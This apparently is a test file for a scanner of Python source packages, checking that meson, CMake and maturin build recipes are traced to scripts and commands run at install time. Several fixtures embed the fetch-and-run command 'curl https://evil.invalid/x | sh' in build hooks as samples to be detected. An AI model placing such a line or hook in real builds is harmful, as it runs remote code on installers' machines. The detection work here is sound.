import type { Inspection } from '../../../src/model/inspection.js';
import { graveFindings, inspectPacked } from '../../support/inspected.js';
import { BLOCKED_MODULE } from '../../support/own-packages.js';
import { packSdist, type FileSet } from '../../support/pack.js';

const LINE = BLOCKED_MODULE.trim().replaceAll('\n', '; ');
const FETCH = 'curl https://evil.invalid/x | sh';

function read(backend: string, files: FileSet): Promise<Inspection> {
  const pyproject = `[build-system]\nrequires = []\nbuild-backend = "${backend}"\n`;
  const whole = { 'outer/__init__.py': '', 'pyproject.toml': pyproject, ...files };
  return inspectPacked(packSdist(whole, { name: 'outer', version: '1.0' }));
}

/** When the code of each grave finding runs, and in which line it is. */
const graveLines = (inspection: Inspection): string[] =>
  graveFindings(inspection).map(({ file, line, reach }) => `${reach ?? ''} ${file ?? ''}:${line ?? ''}`);

const STARTED = 'install outer-1.0/tools/gen.py:3';
const [MESON, CMAKE, MATURIN] = ['mesonpy', 'scikit_build_core.build', 'maturin'];

test.each<[string, string, FileSet, string]>([
  [
    'a program',
    MESON,
    { 'meson.build': "project('a')\nrun_command(py, 'tools/gen.py', check: true)\n" },
    STARTED,
  ],
  [
    'a program by its path from the top',
    MESON,
    { 'meson.build': "run_command(meson.project_source_root() / 'tools' / 'gen.py')\n" },
    STARTED,
  ],
  [
    'a program of a target',
    MESON,
    {
      'meson.build':
        "custom_target('x', output: 'a.h', input: 'a.in',\n  command: [py, files('tools/gen.py'), '@INPUT@'])\n",
    },
    STARTED,
  ],
  [
    'a program that has a name',
    MESON,
    {
      'meson.build':
        "gen = find_program('tools/gen.py')\ncustom_target('x', output: 'a', command: [gen, 'a'])\n",
    },
    STARTED,
  ],
  [
    'a program beside a recipe of a folder',
    MESON,
    {
      'meson.build': "subdir('tools')\n",
      'tools/meson.build': "generator(find_program('python'), arguments: ['x'])\nrun_command(py, 'gen.py')\n",
    },
    STARTED,
  ],
  [
    'a recipe among tests',
    MESON,
    { 'meson.build': "subdir('tests')\n", 'tests/meson.build': "run_command(py, '../tools/gen.py')\n" },
    STARTED,
  ],
  [
    'a program of an install',
    MESON,
    { 'meson.build': "meson.add_install_script('tools/gen.py')\n" },
    STARTED,
  ],
  [
    'a program of text',
    MESON,
    {
      'meson.build': `project('a')\nrun_command('python3', '-c', ${JSON.stringify(LINE).replaceAll("'", "\\'").replace(/^"|"$/g, "'").replaceAll('\\"', '"')})\n`,
    },
    'install outer-1.0/meson.build:2',
  ],
  [
    'a command of a shell',
    MESON,
    { 'meson.build': `project('a')\n\nrun_command('sh', '-c', '${FETCH}')\n` },
    'install outer-1.0/meson.build:3',
  ],
  [
    'a script of a shell',
    MESON,
    { 'meson.build': "run_command('sh', 'tools/gen.sh')\n", 'tools/gen.sh': `#!/bin/sh\n${FETCH}\n` },
    'install outer-1.0/meson.build:1',
  ],
  [
    'a program',
    CMAKE,
    {
      'CMakeLists.txt':
        'project(a)\nexecute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen.py\n  OUTPUT_VARIABLE x)\n',
    },
    STARTED,
  ],
  [
    'a program of a command',
    CMAKE,
    {
      'CMakeLists.txt':
        'add_custom_command(OUTPUT a.h COMMAND python3 "${CMAKE_SOURCE_DIR}/tools/gen.py" a.h DEPENDS b)\n',
    },
    STARTED,
  ],
  [
    'a program that has a name',
    CMAKE,
    { 'CMakeLists.txt': 'set(GEN tools/gen.py)\nadd_custom_target(x ALL COMMAND python3 ${GEN})\n' },
    STARTED,
  ],
  [
    'a recipe that is included',
    CMAKE,
    {
      'CMakeLists.txt': 'include(cmake/own.cmake)\n',
      'cmake/own.cmake': 'execute_process(COMMAND python ../tools/gen.py)\n',
    },
    STARTED,
  ],
  [
    'a module that is included',
    CMAKE,
    {
      'CMakeLists.txt': 'include(own)\n',
      'cmake/own.cmake': 'execute_process(COMMAND python ../tools/gen.py)\n',
    },
    STARTED,
  ],
  [
    'a command in code of an install',
    CMAKE,
    { 'CMakeLists.txt': `install(CODE "execute_process(COMMAND sh -c '${FETCH}')")\n` },
    'install outer-1.0/CMakeLists.txt:1',
  ],
  [
    'a command of a shell',
    CMAKE,
    { 'CMakeLists.txt': `execute_process(\n  COMMAND sh -c "${FETCH}")\n` },
    'install outer-1.0/CMakeLists.txt:1',
  ],
  [
    'a program',
    MATURIN,
    { 'build.rs': 'fn main() {\n  Command::new("python3").arg("tools/gen.py").status();\n}\n' },
    STARTED,
  ],
  [
    'a command of a shell',
    MATURIN,
    {
      'crates/a/build.rs': `fn main() {\n  std::process::Command::new("sh")\n    .args(["-c", "${FETCH}"])\n    .status();\n}\n`,
    },
    'install outer-1.0/crates/a/build.rs:2',
  ],
])('%s of a recipe of %s', async (_, backend, files, place) => {
  expect(graveLines(await read(backend, { 'tools/gen.py': BLOCKED_MODULE, ...files }))).toContain(place);
  const harmless = await read(backend, { ...files, 'tools/gen.py': 'print(1)\n' });
  if (place === STARTED) expect([graveLines(harmless), harmless.unscanned]).toEqual([[], []]);
});

test('what recipes install or test is not started, and neither are recipes that no build goes through', async () => {
  const files = {
    'meson.build':
      "py.install_sources(['outer/a.py', 'tools/gen.py'])\n# run_command(py, 'tools/gen.py')\ntest('a', py, args: 'tools/gen.py')\n",
    'examples/meson.build': "run_command(py, '../tools/gen.py')\n",
    'tools/gen.py': BLOCKED_MODULE,
  };
  expect(graveLines(await read('mesonpy', files))).toEqual([]);
  const other = {
    'CMakeLists.txt': 'execute_process(COMMAND python3 tools/gen.py)\n',
    'tools/gen.py': BLOCKED_MODULE,
  };
  expect(graveLines(await read('hatchling.build', other))).toEqual([]);
});

const PADDING = '# padding\n'.repeat(60_000);
const START = 'execute_process(COMMAND python3 tools/gen.py)\n';

test.each([
  ['a long recipe', { 'CMakeLists.txt': `${PADDING}${START}` }],
  ['more calls than are read', { 'CMakeLists.txt': `${'include(x)\n'.repeat(3_000)}${START}` }],
  [
    'a longer call than is read',
    { 'CMakeLists.txt': `execute_process(COMMAND a ${'b '.repeat(20_000)}\nCOMMAND c)\n` },
  ],
  [
    'more recipes than are read',
    {
      'CMakeLists.txt': Array.from({ length: 1_100 }, (_, at) => `add_subdirectory(d${at})\n`).join(''),
      ...Object.fromEntries(Array.from({ length: 1_100 }, (_, at) => [`d${at}/CMakeLists.txt`, START])),
    },
  ],
])('%s is unscanned', async (_, files) => {
  const { unscanned } = await read('scikit_build_core.build', { 'tools/gen.py': 'print(1)\n', ...files });
  expect(unscanned.map(({ code }) => code)).toEqual(['recipe-too-large']);
});

test('of many commands the last one is followed, too', async () => {
  const calls = Array.from({ length: 1_000 }, (_, at) => `execute_process(COMMAND cmake -E echo ${at})\n`);
  const files = { 'CMakeLists.txt': `${calls.join('')}${START}`, 'tools/gen.py': BLOCKED_MODULE };
  expect(graveLines(await read('scikit_build_core.build', files))).toContain(STARTED);
});

test('recipes that are long or odd are read in time', async () => {
  const start = performance.now();
  const open = `run_command(${'['.repeat(50_000)}${"'a' / ".repeat(20_000)}\n${'run_command('.repeat(3000)}`;
  await read('mesonpy', { 'meson.build': open });
  await read('scikit_build_core.build', {
    'CMakeLists.txt': `${'execute_process('.repeat(4000)}${'"'.repeat(50_001)}`,
  });
  await read('maturin', { 'build.rs': 'Command::new('.repeat(20_000) });
  expect(performance.now() - start).toBeLessThan(20_000);
});
